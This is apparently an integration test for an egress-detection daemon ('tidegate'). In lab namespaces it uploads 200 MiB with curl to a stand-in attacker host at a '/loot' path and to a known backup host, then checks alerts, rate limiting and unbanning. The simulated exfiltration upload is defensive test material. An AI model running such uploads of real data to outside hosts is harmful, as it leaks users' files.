#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# lab: patient 45
# 200 MiB to where nothing went before, and the same to the place that gets as much each night, by the daemon and curl.
# The first is found while it goes on, with process, bytes and name, and is slowed down where that is enforced; the backup
# is let alone. The nights before are not lived through: probe_reach writes them into the daemon's file of history, by the
# functions that the daemon itself uses.
# shellcheck disable=SC2317 # much is called by check and wait_for
# shellcheck source=tests/integration/lib.sh
. "$(dirname "$0")/lib.sh"
# shellcheck source=tests/integration/lib_egress.sh
. "$HERE/lib_egress.sh"
[ -x "$B/lab/probe_reach" ] || skip "$B/lab/probe_reach is not built"
NEW=drop.example.net BACKUP=backup.example.org RESOLVER=203.0.113.53
LIMIT=1024
egress_up
own_conf
cat >"$D/etc/policies/upload.conf" <<END
forget = "1d";
reactions = (
	{ on = "egress.confirmed"; proof = "local"; response = "egress-limit"; for = "10m"; max = "1d";
		limit_rate = 5; limit_burst = 20; limit_kib = $LIMIT; },
	{ on = "*"; proof = "claimed"; response = "observe"; }
);
END

serve attacker 8443
serve innocent 8443
ip -n "$LAB-innocent" addr add $RESOLVER/24 dev eth0
nsenter "--net=/run/netns/$LAB-innocent" -- python3 "$HERE/resolve.py" $RESOLVER $NEW=$ATTACKER $BACKUP=$INNOCENT \
	2>>"$D/resolve.log" &
PIDS+=($!)
echo "nameserver $RESOLVER" >"$D/resolv.conf"
mount --bind "$D/resolv.conf" "$(readlink -f /etc/resolv.conf)" || skip "no private /etc/resolv.conf"
chmod 755 "$D"
head -c 200M /dev/zero >"$D/data"
for who in $NEW $BACKUP; do
	wait_for 9 in_ns host curl -s -m 1 -o "$D/out" "http://$who:8443/" || bail "$who does not answer"
done

"$B/lab/probe_reach" "$D/history.db" "$(date +%s)" $OTHER $INNOCENT $BACKUP 8443 30 200 || bail "no file of history"

# upload UID URL OPTION...: prints how many bytes were sent, and in how many seconds.
upload()
{
	as "$1" curl -s -H Expect: -T "$D/data" -o /dev/null -w '%{size_upload} %{time_total}\n' "${@:3}" "$2"
}

# of FIELD [DETECTOR]: of what was found about the new place.
of()
{
	alert_values "$1" "tidegate.detector=${2:-egress.volume}" "dest_ip=$ATTACKER" | head -n 1
}

about_backup()
{
	alerts event_type=alert 'tidegate.detector=egress.*' "dest_ip=$INNOCENT"
}

held()
{
	in_ns host nft list set inet tidegate egress_bytes4 2>/dev/null | grep -q "$1"
}

daemon_start enforce upload
read -r bytes seconds < <(upload $OTHER "http://$BACKUP:8443/night")
is "the backup's bytes" "$bytes" 209715200
note "in $seconds s"

# Living sockets are looked at each ten seconds: it is to last for more.
upload $ME "http://$NEW:8443/loot" --limit-rate 12M -m 40 >"$D/loot" &
loot=$!
check "200 MiB to a new place are found" wait_for 25 some_alert tidegate.detector=egress.volume "dest_ip=$ATTACKER"
check "while they are on their way" kill -0 $loot
is "its process" "$(of tidegate.egress.process)" curl
is "its user" "$(of tidegate.egress.uid)" $ME
is "its name" "$(of tidegate.egress.name)" $NEW
at_least "its bytes" "$(of tidegate.egress.bytes_out)" 67108864
at_most "its bytes, so far" "$(of tidegate.egress.bytes_out)" 209715199
at_most "how long it was known, s" "$(of tidegate.egress.known_s)" 60
note "$(of tidegate.about)"
is "and that it is new makes two" "$(of tidegate.detector egress.confirmed)" egress.confirmed
is "which is answered" "$(of tidegate.decision egress.confirmed)" egress-limit
check "the limit is in force" wait_for 5 held $ATTACKER
pkill -P $loot 2>/dev/null
kill $loot 2>/dev/null
wait $loot 2>/dev/null
code "explain" 0 explain $ATTACKER -o plain
says "tells the process" "^process	curl"
says "the executable" "^executable	/.*curl"
says "the name" "^name	$NEW"
says "and the measure" "^response	egress-limit"

# What the kernel had taken from it leaves yet, as slowly.
wait_for 20 grep -q /loot "$D/pages.log"
upload $ME "http://$NEW:8443/more" -m 8 >/dev/null &
more=$!
read -r bytes seconds < <(upload $OTHER "http://$BACKUP:8443/again")
is "the backup meanwhile" "$bytes" 209715200
at_most "its seconds, of which the limit would make 200" "$seconds" 20
wait $more
wait_for 5 grep -q /more "$D/pages.log"
rate=$(awk '$1 == "/more" { print $3 }' "$D/pages.log")
at_least "KiB a second of an upload that follows, of $LIMIT" "$rate" $((LIMIT * 7 / 10))
at_most "and" "$rate" $((LIMIT * 13 / 10))
# By its address, as with a name out of some cache, to a daemon that has heard of no look-up yet.
daemon_stop
daemon_start enforce upload
sleep 2
read -r bytes _ < <(upload $OTHER "http://$INNOCENT:8443/by-address")
is "the backup, without a look-up" "$bytes" 209715200
sleep 1
is "what was found of the backup" "$(about_backup)" 0
# Of whom the store says that 200 MiB are usual there, and so it does on.
truncate -s 2300M "$D/data"
read -r bytes _ < <(upload $OTHER "http://$BACKUP:8443/everything")
is "2300 MiB to the backup" "$bytes" $((2300 << 20))
check "are found: more than ever by far" wait_for 5 some_alert tidegate.detector=egress.volume "dest_ip=$INNOCENT"
note "$(alert_values tidegate.about tidegate.detector=egress.volume "dest_ip=$INNOCENT")"
is "EVE: one object of egress in each alert of egress" "$(alerts event_type=alert 'tidegate.detector=egress.*' 'tidegate.egress=*')" \
	"$(alerts event_type=alert 'tidegate.detector=egress.*')"
code "unban" 0 unban $ATTACKER
check "ends it" wait_for 5 not held $ATTACKER
finish
